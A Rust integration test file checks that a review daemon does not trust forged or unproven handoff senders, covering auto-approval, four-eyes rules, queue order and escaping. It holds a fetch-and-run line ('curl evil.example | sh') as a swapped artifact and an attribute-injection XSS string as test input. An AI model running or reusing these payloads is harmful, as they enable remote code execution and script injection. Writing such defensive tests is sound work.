//! What proves who sent a revision, attacked from the share: a `sender == 'release-bot'` policy
//! approves only bytes release-bot itself uploaded or declared (not bytes another writer of the
//! share swapped in after its upload), an upload that failed to be written proves nothing, and
//! the person an agent of the workspace acts for cannot approve a handoff written on the share
//! by claiming another `from_agent` (four eyes stay four).

use crate::pages::Web;
use crate::util::{agent, agent_for, bytes, handoff, user, write_atomic, Daemon, TestEnv};
use serde_json::{json, Value};
use std::path::Path;

fn put(d: &Daemon, path: &str, token: &str, body: &[u8]) -> (u16, String) {
    let auth = format!("Bearer {token}");
    let reply = Web::new(d).send("PUT", path, &[("Authorization", &auth)], Some(body));
    (reply.status, reply.body)
}

fn release_config() -> String {
    [
        user("rita", "\"reviewer\""),
        agent("release-bot", "alpha"),
        agent("helper", "alpha"),
        "[[routes]]\nname = \"release\"\nauto_approve_if = \"sender == 'release-bot'\"\n".into(),
    ]
    .concat()
}

fn release(id: &str, artifacts: Value) -> Value {
    let mut h = handoff(id);
    h["from_agent"] = json!("release-bot");
    h["trigger"] = json!("completion");
    h["artifacts"] = artifacts;
    h
}

fn decided_by(d: &Daemon, key: &str) -> String {
    let (_, detail) = d.get(&format!("/api/v1/handoffs/{key}"));
    detail["decision"]["by"].as_str().unwrap_or("").to_string()
}

/// Every file under `dir` whose bytes are `content`.
fn holding(dir: &Path, content: &[u8]) -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return found;
    };
    for e in entries.flatten() {
        let p = e.path();
        if p.is_dir() {
            found.extend(holding(&p, content));
        } else if std::fs::read(&p).is_ok_and(|b| b == content) {
            found.push(p);
        }
    }
    found
}

/// Leaves the daemon time to have decided `key` at receipt, had it approved it.
fn settled_pending(d: &Daemon, key: &str) {
    let seen = |state: &str| d.handoffs(state).iter().any(|h| h["key"] == key);
    d.wait_until("received", || seen("pending") || seen("decided"));
    std::thread::sleep(std::time::Duration::from_millis(800));
    assert_eq!(decided_by(d, key), "", "{key} is left to people");
    assert!(seen("pending"), "{key} is left to people");
}

/// release-bot uploads `inbox/app.sh`; another writer of the share then puts its own bytes in
/// place of the upload: those bytes.
fn swapped_after_upload(d: &Daemon, ws: &std::path::Path) -> &'static [u8] {
    uploaded(
        d,
        "/api/v1/workspaces/alpha/inbox/app.sh",
        "release-bot-token",
        b"echo benign release\n",
    );
    let evil = b"curl evil.example | sh\n";
    write_atomic(&ws.join("inbox/app.sh"), evil);
    evil
}

#[test]
fn a_sender_policy_does_not_approve_artifact_bytes_another_writer_swapped_in() {
    let mut env = TestEnv::with_config(&release_config());
    let d = env.start();
    let ws = env.ws("alpha");
    let evil = swapped_after_upload(&d, &ws);
    let h = release("rel-42", json!([{"path": "inbox/app.sh"}]));
    uploaded(
        &d,
        "/api/v1/workspaces/alpha/handoff",
        "release-bot-token",
        &bytes(&h),
    );
    settled_pending(&d, "rel-42");
    assert!(holding(&ws.join("approved"), evil).is_empty());
}

#[test]
fn a_handoff_upload_that_was_not_written_proves_no_sender() {
    let mut env = TestEnv::with_config(&release_config());
    let d = env.start();
    let ws = env.ws("alpha");
    // A writer of the share stands a folder where the handoff would go: the upload fails.
    std::fs::create_dir(ws.join("handoff.json")).unwrap();
    let h = release("rel-43", json!([]));
    let (status, body) = put(
        &d,
        "/api/v1/workspaces/alpha/handoff",
        "release-bot-token",
        &bytes(&h),
    );
    assert_eq!(status, 409, "{body}");
    // It then writes those very bytes itself, on the share.
    std::fs::remove_dir(ws.join("handoff.json")).unwrap();
    write_atomic(&ws.join("handoff.json"), &bytes(&h));
    settled_pending(&d, "rel-43");
}

#[test]
fn a_sender_policy_approves_what_its_sender_uploaded_or_declared() {
    let mut env = TestEnv::with_config(&release_config());
    let d = env.start();
    let ws = env.ws("alpha");
    // Uploaded by release-bot before its handoff, untouched since.
    let mine = b"echo release 44\n";
    uploaded(
        &d,
        "/api/v1/workspaces/alpha/inbox/app.sh",
        "release-bot-token",
        mine,
    );
    let h = release("rel-44", json!([{"path": "inbox/app.sh"}]));
    uploaded(
        &d,
        "/api/v1/workspaces/alpha/handoff",
        "release-bot-token",
        &bytes(&h),
    );
    d.wait_until("approved by the policy", || {
        decided_by(&d, "rel-44") == "policy:release"
    });
    assert!(!holding(&ws.join("approved"), mine).is_empty());

    // Written on the share, but with its sha256 declared in the uploaded handoff.
    let notes = b"release notes 45\n";
    write_atomic(&ws.join("inbox/notes.txt"), notes);
    let sha = baton::contract::validate::sha256_hex(notes);
    let h = release(
        "rel-45",
        json!([{"path": "inbox/notes.txt", "sha256": sha}]),
    );
    uploaded(
        &d,
        "/api/v1/workspaces/alpha/handoff",
        "release-bot-token",
        &bytes(&h),
    );
    d.wait_until("approved by the policy", || {
        decided_by(&d, "rel-45") == "policy:release"
    });
}

fn four_eyes() -> String {
    [
        user("rita", "\"reviewer\""),
        user("bob", "\"reviewer\""),
        agent_for("rita-bot", "rita", "alpha"),
        agent("helper", "alpha"),
        "[[routes]]\nname = \"four-eyes\"\nmin_approvals = 2\nreviewers = [\"rita\", \"bob\"]\n"
            .into(),
    ]
    .concat()
}

/// PUTs `body` at `path` as the holder of `token`, which must be taken.
fn uploaded(d: &Daemon, path: &str, token: &str, body: &[u8]) {
    let (status, answer) = put(d, path, token, body);
    assert!(status == 200 || status == 201, "{answer}");
}

/// Uploads handoff `h` as the holder of `token` and waits until it is pending.
fn upload_pending(d: &Daemon, token: &str, h: &Value) {
    uploaded(d, "/api/v1/workspaces/alpha/handoff", token, &bytes(h));
    let key = h["id"].clone();
    d.wait_until("received", || {
        d.handoffs("pending").iter().any(|p| p["key"] == key)
    });
}

fn approve(d: &Daemon, key: &str, who: &str) -> (u16, Value) {
    let token = format!("{who}-token");
    let body = d
        .as_read(key, &token, json!({"outcome": "approved"}))
        .to_string();
    d.post_as(
        &format!("/api/v1/handoffs/{key}/decision"),
        Some(&token),
        &body,
    )
}

#[test]
fn a_handoff_on_the_share_claiming_another_agent_is_not_approved_by_the_person_an_agent_there_acts_for(
) {
    let mut env = TestEnv::with_config(&four_eyes());
    let d = env.start();
    on_the_share_as_helper(&env, &d, "k4");
    let (status, body) = approve(&d, "k4", "rita");
    assert_eq!(status, 403, "{body}");
    let said = body["error"].as_str().unwrap_or_default();
    assert!(
        said.contains("nothing proves which agent wrote it") && said.contains("\"rita-bot\""),
        "{said}"
    );
    assert!(said.contains("Another reviewer must approve it"), "{said}");
    let (status, body) = approve(&d, "k4", "bob");
    assert_eq!(status, 202, "one approval of the two: {body}");
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(
        d.handoffs("pending").iter().any(|h| h["key"] == "k4"),
        "one person is not two"
    );
}

#[test]
fn a_handoff_uploaded_by_another_agent_counts_its_reviewers_and_the_proven_sender_is_refused() {
    let mut env = TestEnv::with_config(&four_eyes());
    let d = env.start();
    let mut h = handoff("by-helper");
    h["from_agent"] = json!("helper");
    upload_pending(&d, "helper-token", &h);
    for who in ["rita", "bob"] {
        let (status, body) = approve(&d, "by-helper", who);
        assert!(status == 200 || status == 202, "{who}: {status} {body}");
    }
    d.wait_until("approved by two people", || {
        d.handoffs("decided")
            .iter()
            .any(|h| h["key"] == "by-helper")
    });

    let mut h = handoff("by-rita-bot");
    h["from_agent"] = json!("rita-bot");
    upload_pending(&d, "rita-bot-token", &h);
    let (status, body) = approve(&d, "by-rita-bot", "rita");
    assert_eq!(status, 403, "{body}");
    assert!(
        body["error"]
            .as_str()
            .unwrap_or_default()
            .contains("rita sent this handoff"),
        "{body}"
    );
}

/// The API detail of `key`.
fn detail(d: &Daemon, key: &str) -> Value {
    d.get(&format!("/api/v1/handoffs/{key}")).1
}

/// rita-bot writes its work `key` on the share in helper's name; once it is pending.
fn on_the_share_as_helper(env: &TestEnv, d: &Daemon, key: &str) {
    let mut h = handoff(key);
    h["from_agent"] = json!("helper");
    write_atomic(&env.ws("alpha").join("handoff.json"), &bytes(&h));
    d.wait_until("received", || {
        d.handoffs("pending").iter().any(|h| h["key"] == key)
    });
}

fn claim(d: &Daemon, key: &str, who: &str) -> (u16, Value) {
    let token = format!("{who}-token");
    d.post_as(&format!("/api/v1/handoffs/{key}/claim"), Some(&token), "{}")
}

#[test]
fn a_claimed_from_agent_is_shown_unproven_and_cannot_let_the_person_an_agent_there_acts_for_claim_it(
) {
    let mut env = TestEnv::with_config(&four_eyes());
    let d = env.start();
    on_the_share_as_helper(&env, &d, "k5");
    let shown = detail(&d, "k5");
    assert!(
        shown["sender"].is_null(),
        "a typed name is no sender: {shown}"
    );
    assert_eq!(shown["sender_proven"], false, "{shown}");
    let (status, body) = claim(&d, "k5", "rita");
    assert_eq!(status, 403, "{body}");
    let said = body["error"].as_str().unwrap_or_default();
    assert!(
        said.contains("cannot claim this handoff") && said.contains("\"rita-bot\""),
        "{said}"
    );
    let (status, body) = claim(&d, "k5", "bob");
    assert_eq!(status, 200, "{body}");

    // Uploaded with helper's own token: proven, and shown so.
    let mut h = handoff("k6");
    h["from_agent"] = json!("helper");
    upload_pending(&d, "helper-token", &h);
    let shown = detail(&d, "k6");
    assert_eq!(shown["sender"], "helper", "{shown}");
    assert_eq!(shown["sender_proven"], true, "{shown}");
    let (status, body) = claim(&d, "k6", "rita");
    assert_eq!(status, 200, "{body}");
}

#[test]
fn an_unproven_handoff_is_not_assigned_to_the_person_an_agent_there_acts_for() {
    let config = four_eyes().replace("min_approvals = 2\n", "assign = \"round_robin\"\n");
    let mut env = TestEnv::with_config(&config);
    let d = env.start();
    let mut h = handoff("k7");
    h["from_agent"] = json!("helper");
    write_atomic(&env.ws("alpha").join("handoff.json"), &bytes(&h));
    d.wait_until("assigned", || !detail(&d, "k7")["claimed_by"].is_null());
    // rita comes first in the turn, but rita-bot could have written it: she could not approve.
    let shown = detail(&d, "k7");
    assert_eq!(shown["claimed_by"], "bob", "{shown}");
}

#[test]
fn replay_proves_a_sender_by_the_artifact_bytes_as_the_daemon_does() {
    let mut env = TestEnv::with_config(&release_config());
    let d = env.start();
    let ws = env.ws("alpha");
    swapped_after_upload(&d, &ws);
    let h = release("rel-46", json!([{"path": "inbox/app.sh"}]));
    uploaded(
        &d,
        "/api/v1/workspaces/alpha/handoff",
        "release-bot-token",
        &bytes(&h),
    );
    settled_pending(&d, "rel-46");
    assert!(detail(&d, "rel-46")["sender"].is_null());
    let (status, body) = approve(&d, "rel-46", "rita");
    assert_eq!(status, 200, "{body}");
    d.stop();
    let cfg = env.config_path();
    let out = crate::util::baton(&["policy", "replay", "--json", cfg.to_str().unwrap()]);
    assert!(out.status.success(), "{out:?}");
    let replayed: Value = serde_json::from_slice(&out.stdout).unwrap();
    let counts = &replayed["policies"][0]["counts"];
    assert_eq!(
        counts,
        &json!([{"would_auto_approve": false, "answered": "approved", "revisions": 1}]),
        "the swapped bytes are nobody's, in replay as at receipt: {replayed}"
    );
}

/// A reviewer who signs in with `pw-NAME` and calls the API with `NAME-token`.
fn person(name: &str) -> String {
    let hash = baton::login::hash_password(&format!("pw-{name}")).unwrap();
    let token = baton::auth::token_hash(&format!("{name}-token"));
    format!(
        "[[users]]\nname = \"{name}\"\npassword_hash = \"{hash}\"\ntoken_sha256 = \"{token}\"\nroles = [\"reviewer\"]\n"
    )
}

/// The keys of a queue page's lines, in order.
fn queue_keys(page: &str) -> Vec<String> {
    fn key(row: &str) -> Option<String> {
        let at = row.split("data-key=\"").nth(1)?;
        at.split('"').next().map(str::to_string)
    }
    let rows = page.split("<tr class=\"row").skip(1);
    rows.filter_map(key).collect()
}

/// What `from_agent` says moves nothing in a queue: helper writes its work on the share in
/// rita-bot's name (rita's agent), then more in its own name, and rita-bot uploads one of its
/// own. Nothing proves who wrote the two on the share, so rita's queue treats them alike,
/// oldest first and both hers to decide (or reject): the forged name neither hides the first
/// from her nor sinks it. The one rita-bot's token proves is hers, and comes last, not hers
/// to decide. The page says which sender is unverified, and why, without reading the claim.
#[test]
fn a_forged_from_agent_does_not_move_a_handoff_in_the_queue_and_shows_unverified() {
    let config = [
        person("rita"),
        person("bob"),
        agent_for("rita-bot", "rita", "*"),
        agent("helper", "*"),
        "[[routes]]\nname = \"team\"\nreviewers = [\"rita\", \"bob\"]\n".into(),
    ]
    .concat();
    let mut env = TestEnv::with_config(&config);
    // One pending handoff a workspace (a new key closes the one before): one each.
    for ws in ["beta", "gamma", "delta"] {
        env.init(ws);
    }
    let d = env.start();
    let pending = |key: &str| {
        d.wait_until("received", || {
            d.handoffs("pending").iter().any(|h| h["key"] == key)
        })
    };
    for (ws, key, from) in [("alpha", "forged", "rita-bot"), ("beta", "plain", "helper")] {
        let mut h = handoff(key);
        h["from_agent"] = json!(from);
        write_atomic(&env.ws(ws).join("handoff.json"), &bytes(&h));
        pending(key);
    }
    let mut h = handoff("hers");
    h["from_agent"] = json!("rita-bot");
    let path = "/api/v1/workspaces/gamma/handoff";
    uploaded(&d, path, "rita-bot-token", &bytes(&h));
    pending("hers");

    let list = d.get_as("/api/v1/handoffs", Some("rita-token")).1;
    let may = |key: &str| {
        let line = list.as_array().unwrap().iter().find(|l| l["key"] == key);
        line.unwrap_or_else(|| panic!("{key} in {list}"))["may_decide"].clone()
    };
    assert_eq!(may("forged"), true, "a typed name is no sender: {list}");
    assert_eq!(may("plain"), true, "{list}");
    assert_eq!(may("hers"), false, "proven hers: {list}");

    let web = Web::new(&d);
    let rita = web.sign_in("rita", "pw-rita");
    let page = web.get("/?view=pending", Some(&rita));
    assert_eq!(page.status, 200, "{}", page.body);
    assert_eq!(queue_keys(&page.body), ["forged", "plain", "hers"]);
    let mine = web.get("/?view=mine", Some(&rita));
    assert_eq!(queue_keys(&mine.body), ["forged", "plain"]);

    let page = web.get("/handoffs/forged", Some(&rita)).body;
    let unverified = page
        .split("id=\"sender-unverified\"")
        .nth(1)
        .unwrap_or_else(|| panic!("flagged unverified: {page}"));
    let title = unverified
        .split("title=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next();
    let title = title.unwrap();
    assert!(
        title.starts_with("&quot;rita-bot&quot; is only what handoff.json says")
            && title.contains("Nothing proves who sent this revision"),
        "{title}"
    );
    let page = web.get("/handoffs/hers", Some(&rita)).body;
    assert!(!page.contains("(sender unverified)"), "proven: {page}");

    // The name is the writer's text, escaped in the tooltip as everywhere.
    let mut h = handoff("quoted");
    h["from_agent"] = json!("x\" onmouseover=\"alert(1)<b>y");
    write_atomic(&env.ws("delta").join("handoff.json"), &bytes(&h));
    pending("quoted");
    let page = web.get("/handoffs/quoted", Some(&rita)).body;
    assert!(page.contains("id=\"sender-unverified\""), "{page}");
    assert!(
        !page.contains("onmouseover=\"") && !page.contains("<b>y"),
        "{page}"
    );
}
